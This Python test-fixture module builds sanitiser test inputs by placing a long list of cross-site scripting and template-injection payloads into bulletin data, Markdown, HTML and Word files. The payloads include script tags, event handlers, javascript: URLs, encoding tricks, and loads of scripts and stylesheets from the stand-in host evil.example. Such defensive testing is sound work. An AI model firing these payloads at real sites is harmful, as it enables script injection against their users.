"""Scripts that try to get through: each as it might stand in any text, address or name of a source."""

from __future__ import annotations

from collections.abc import Sequence
from html import escape

import msgspec

import word_files as word
from all_nodes import ALL_NODES
from wxpress.tree import Bulletin

INJECTIONS = (
    # elements, plain and disguised
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT\t>",
    "<script/src=https://evil.example/x.js></script>",
    "<script\x0c>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "＜img src=x onerror=alert(1)＞<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x srcset='https://evil.example/1.png 1x, x 2x' onerror=alert`1`>",
    "<picture><source srcset=https://evil.example/2.png><img src=x></picture>",
    "<video src=x onerror=alert(1)><source src=x onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)><summary>看</summary></details>",
    "<body onload=alert(1)><input autofocus onfocus=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object><embed src=https://evil.example/3>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/4'>",
    "<base href=https://evil.example/5/><link rel=stylesheet href=https://evil.example/6.css>",
    "<form action=https://evil.example/7><button formaction=javascript:alert(1)>好</button></form>",
    "<marquee onstart=alert(1)><isindex type=image src=1 onerror=alert(1)>",
    # SVG, MathML, templates, namespaces
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>点</text></a><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href='javascript:alert(1)'>点</math><template><script>alert(1)</script></template>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<?xml-stylesheet href='javascript:alert(1)'?><!DOCTYPE x [<!ENTITY y 'alert(1)'>]>&y;",
    # ways out of where the text stands
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)' x='",
    '" onfocus=alert(1) autofocus tabindex=1 x="',
    "`onload=alert(1)`",
    "--><script>alert(1)</script><!--",
    "--!><img src=x onerror=alert(1)>",
    "]]><script>alert(1)</script><![CDATA[",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</textarea></noscript></xmp><img src=x onerror=alert(1)>",
    '\\"});alert(1);//\u2028alert(1)\u2029',
    # addresses
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java&#9;script&colon;alert(1)",
    "&#106;avascript&#58;alert(1)",
    "\x01javascript:alert(1)",
    "java\u00adscript:alert(1)",
    "java\u200bscript:alert(1)",
    "ｊavascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "view-source:javascript:alert(1)",
    "blob:https://evil.example/8",
    "//evil.example/9.png",
    'https://evil.example/10"onclick="alert(1)',
    "feed:javascript:alert(1)",
    # styles and templates
    "<style>@import 'https://evil.example/11.css';*{background:url(https://evil.example/12)}</style>",
    '<p style="background:url(javascript:alert(1));width:expression(alert(1));-moz-binding:url(//evil.example/13)">',
    "{{ ''.__class__.__mro__[1].__subclasses__() }}{% import os %}{# x #}${alert(1)}<%= alert(1) %>#{alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "\u202e>tpircs/<)1(trela>tpircs<\u202c\ufeff<script>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)
"""What is tried; `alert` shows that one ran, `evil.example` that one was asked for."""


def bulletin_of(injection: str) -> Bulletin:
    """A bulletin of every node whose every text, name and address is *injection*, as far as a reader lets it in."""
    legible = "".join(character for character in injection if character >= " " or character == "\t")
    return msgspec.convert(_filled(msgspec.to_builtins(ALL_NODES), legible), Bulletin)


def _filled(value: object, injection: str) -> object:
    match value:
        case list() | tuple():
            return [_filled(item, injection) for item in value]
        case dict():
            return {
                key: item if key in {"type", "language"} else _filled(item, injection) for key, item in value.items()
            }
        case str():
            return injection
        case _:
            return value


def in_markdown(injections: Sequence[str] = INJECTIONS) -> bytes:
    """One source with every injection in each place that Markdown has."""
    masthead = "'" + "".join(filter(str.isprintable, "".join(injections))).replace("'", "") + "'"
    lines = [
        f"---\nissue: {masthead}\npublisher: {masthead}\n---",
        f"学习文选 {INJECTIONS[0]}",
        "# 主题" + INJECTIONS[31],
    ]
    lines += ["## 目录", "\n".join(f"- {item}" for item in INJECTIONS[:4])]
    for number, item in enumerate(injections):
        target = item.replace(" ", "%20").replace("(", "\\(").replace(")", "\\)")
        lines += [
            f"## 栏目{item}",
            f"### 第{number}篇 {item}",
            f"作者：{item}",
            f'正文{item}。[点这里]({target} "{item}")，[再点](<{item}>)，<{item}>，`{item}`[^{number}]',
            f"![{item}]({target})",
            f"[^{number}]: 注{item}",
            f"[引用][{number}]\n\n[{number}]: {target} '{item}'",
            f"|甲{item}|乙|\n|---|---|\n|{item}|丙|",
            f"- {item}\n\n> {item}\n\n![图]({target})\n\n{item}",
            f"【[链接]({target})】",
        ]
    return "\n\n".join([*lines, f"主编：{INJECTIONS[1]}"]).encode("utf-8", "surrogatepass")


def in_html(injections: Sequence[str] = INJECTIONS) -> bytes:
    """One page with every injection as markup, as text and in each attribute."""
    parts = [
        f'<h2>栏目{escape(item)}</h2><h3 title="{escape(item)}">第{number}篇 {escape(item)}</h3>'
        f"<p>作者：{escape(item)}</p><p>正文{item}。</p></style></title></script></textarea></svg></math>"
        f'<p>又{escape(item)}<a href="{escape(item)}" onclick="alert(1)">点</a>'
        f'<img src="{escape(item)}" alt="{escape(item)}" onerror="alert(1)"></p>'
        f'<table><tr><td>{escape(item)}</td><td style="{escape(item)}">乙</td></tr></table>'
        f'<figure><img src="{escape(item)}"><figcaption>{escape(item)}</figcaption></figure>'
        f"<ul><li>{escape(item)}</li></ul>"
        for number, item in enumerate(injections)
        if "<!--" not in item and "textarea" not in item
    ]
    title = escape("".join(INJECTIONS))
    return f"<!DOCTYPE html><title>{title}</title><body><h1>主题{title}</h1>{''.join(parts)}".encode()


def in_word(injections: Sequence[str] = INJECTIONS) -> bytes:
    """One Word file with every injection in paragraphs, titles, tables, notes, properties and targets of links."""
    body, notes, relations = [], [], {}
    for number, item in enumerate(injections):
        shown = "".join(character for character in item if character >= " " or character == "\t")
        relations[f"link-{number}"] = ("hyperlink", shown if "://" in shown else f"https://x.example/{shown}")
        notes.append(f'<w:footnote w:id="{number + 1}">{word.paragraph(word.run(shown))}</w:footnote>')
        link = f'<w:hyperlink r:id="link-{number}">{word.run(shown)}</w:hyperlink>'
        mark = f'<w:r><w:footnoteReference w:id="{number + 1}"/></w:r>'
        body += [
            word.paragraph(f"第{number}篇 {shown}", '<w:outlineLvl w:val="1"/>'),
            word.paragraph(f"作者：{shown}"),
            word.paragraph(word.run(f"正文{shown}。") + link + mark),
            word.table(word.cell(word.paragraph(word.run(shown))) * 2),
            word.paragraph(word.field(f'HYPERLINK "{escape(shown)}"', shown)),
        ]
    return word.word_file("".join(body), {"footnotes": "".join(notes)}, relations)
